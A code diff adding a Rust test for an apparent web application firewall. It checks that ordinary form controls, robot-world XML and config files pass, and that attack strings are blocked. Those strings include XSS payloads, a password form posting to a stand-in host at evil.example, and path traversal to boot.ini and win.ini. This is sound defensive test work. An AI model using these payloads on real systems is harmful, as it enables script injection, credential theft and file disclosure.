@@ -5759,3 +5759,44 @@ fn holdout68_to_70_shapes_pass_and_their_attacks_still_score() {
         assert!(json_post(&waf, &serde_json::json!({ "shell": v }).to_string()).blocked, "{v}");
     }
 }
+
+#[test]
+fn holdout71_to_73_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    // Form controls alone (an accessibility report's snippets, a component's button), a robot
+    // world's XML with its `<link>` and `<include>`, relative includes beside backslashes.
+    for v in [
+        "<input type=\"text\" name=\"postcode\" placeholder=\"postcode\">",
+        "Fix: <button type=\"button\" aria-expanded=\"false\" aria-controls=\"help-text\">Help</button>",
+        "<label for=\"phone\">Phone</label> <input id=\"phone\" name=\"phone\" type=\"tel\" aria-describedby=\"phone-hint\">",
+        "<?xml version=\"1.0\" ?>\n<sdf version=\"1.9\">\n  <world name=\"aisle\">\n    <include>\n      <uri>https://fuel.example/models/Ground Plane</uri>\n    </include>\n    <model name=\"shelf\"><link name=\"body\"><pose>0 0 0 0 0 0</pose></link></model>\n  </world>\n</sdf>",
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(!o.blocked, "{v}: {o:?}");
+        }
+    }
+    for file in [
+        "#include <std.h>\n#include \"../emberfell.h\"\n\nvoid create() {\n    write(\"The forge roars.\\n\");\n}\n",
+        "services:\n    App\\:\n        resource: '../src/'\n        exclude:\n            - '../src/Entity/'\n",
+    ] {
+        let o = json_post(&waf, &serde_json::json!({ "content": file }).to_string());
+        assert!(!o.blocked, "{file}: {o:?}");
+    }
+    for v in [
+        "<input autofocus onfocus=alert(1)>",
+        "<input type=image src=x onerror=alert(1)>",
+        "<button form=f formaction=javascript:alert(1)>go</button>",
+        "<form action=//evil.example/steal><input name=password type=password></form>",
+        "<input/onfocus=alert(1)/autofocus>",
+        "<button formaction=\"https://evil.example/\">go</button>",
+        "<input autofocus>",
+        "<?xml version=\"1.0\"?><r><link rel=\"stylesheet\" href=\"//evil.example/x.css\"/><script>alert(1)</script></r>",
+        "<?xml version=\"1.0\"?><r><body onload=\"alert(1)\">x</body></r>",
+        "notes\n..\\..\\boot.ini",
+        "notes\n../..\\windows\\win.ini",
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(o.blocked, "{v}: {o:?}");
+        }
+    }
+}
